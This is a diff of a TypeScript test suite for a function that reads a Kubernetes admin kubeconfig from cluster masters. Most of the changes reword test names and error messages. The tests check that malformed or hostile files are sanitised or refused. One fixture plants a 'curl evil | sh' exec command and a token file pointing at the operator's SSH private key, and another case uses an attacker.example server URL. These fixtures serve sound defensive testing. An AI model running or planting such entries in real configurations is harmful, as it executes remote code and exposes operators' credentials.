@@ -48,7 +48,7 @@ function conf({ server = "https://10.0.0.10:8443", user = {}, more = {}, authori
 
 describe("the admin configuration", () => {
   it.each(["https://10.0.0.10:8443", "https://10.0.0.12:6443", "https://attacker.example"])(
-    "points at the VIP, from one that points at %s",
+    "points at the VIP, even if the master's file points at %s",
     async (server) => {
       const found = parse((await readKubeconfig(masters(conf({ server })), cluster)).reveal()) as object;
       expect(found).toMatchObject({
@@ -59,7 +59,7 @@ describe("the admin configuration", () => {
     },
   );
 
-  it("has the master's certificates and key, and is taken by a TLS client", async () => {
+  it("has the master's certificates and key, and is accepted by a TLS client", async () => {
     const text = (await readKubeconfig(masters(conf()), cluster)).reveal();
     const { clusters, users } = parse(text) as Record<string, Record<string, Record<string, string>>[]>;
     const pem = (data: string | undefined) => Buffer.from(data ?? "", "base64").toString();
@@ -69,7 +69,7 @@ describe("the admin configuration", () => {
     expect(pem(users?.[0]?.user?.["client-key-data"])).toMatch(/^-----BEGIN PRIVATE KEY-----/);
   });
 
-  it("keeps all authorities, where one takes over from another", async () => {
+  it("keeps all authorities during a change of authorities", async () => {
     const both = conf({ authority: `${ca.certificate}# the next\n${ca.certificate}` });
     const { clusters } = parse((await readKubeconfig(masters(both), cluster)).reveal()) as {
       clusters: { cluster: Record<string, string> }[];
@@ -79,7 +79,7 @@ describe("the admin configuration", () => {
     expect(data).not.toContain("# the next");
   });
 
-  it("runs nothing and reads nothing on the operator's machine, whatever the master's file says", async () => {
+  it("runs nothing and reads nothing on the operator's machine, whatever the master's file contains", async () => {
     const exec = { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] };
     const hostile = conf({
       user: { exec, tokenFile: "/home/operator/.ssh/id_ed25519", "auth-provider": { name: "gcp" } },
@@ -88,7 +88,9 @@ describe("the admin configuration", () => {
     const text = (await readKubeconfig(masters(hostile), cluster)).reveal();
     expect(text).not.toMatch(/exec|evil|tokenFile|auth-provider|planted|colors/);
   });
+});
 
+describe("an admin configuration", () => {
   it.each<[string, () => string, string]>([
     [
       "a program in place of a certificate",
@@ -123,11 +125,11 @@ describe("the admin configuration", () => {
     ["nothing", () => "", "it has no certificate-authority-data"],
     ["null", () => "null", "it has no certificate-authority-data"],
     ["lists of nothing", () => "clusters: [null]\nusers: [null]\n", "it has no certificate-authority-data"],
-    ["HTML", () => "<html>\n<p>: &x *y", "it is no YAML"],
-  ])("is refused with its host where the master's has %s", async (_, text, why) => {
+    ["HTML", () => "<html>\n<p>: &x *y", "it is not valid YAML"],
+  ])("is refused with its host if the master's file has %s", async (_, text, why) => {
     expect(await failure(readKubeconfig(masters(text()), cluster))).toMatchObject({
       code: "E_REFUSED",
-      message: "its /etc/kubernetes/admin.conf is not what kubeadm writes",
+      message: "/etc/kubernetes/admin.conf is not what kubeadm writes",
       details: { host: "m1", why: expect.stringContaining(why) as string },
     });
   });
@@ -138,7 +140,7 @@ describe("the admin configuration", () => {
     expect(error.explain()).not.toContain(key.slice(0, 20));
   });
 
-  it("comes from the next master where the first was replaced", async () => {
+  it("comes from the next master if the first was replaced", async () => {
     const found = await readKubeconfig(masters(undefined, conf()), cluster);
     expect(found.reveal()).toContain("https://10.0.0.10:8443");
   });
@@ -148,7 +150,7 @@ describe("the admin configuration", () => {
     expect([String(found), JSON.stringify(found)]).toEqual(["***", '"***"']);
   });
 
-  it("that is on no master yet is refused, with what makes one", async () => {
+  it("that is on no master yet is refused, with the command that creates one", async () => {
     expect(await failure(readKubeconfig(masters(), cluster))).toMatchObject({
       code: "E_REFUSED",
       message: "no master has /etc/kubernetes/admin.conf",
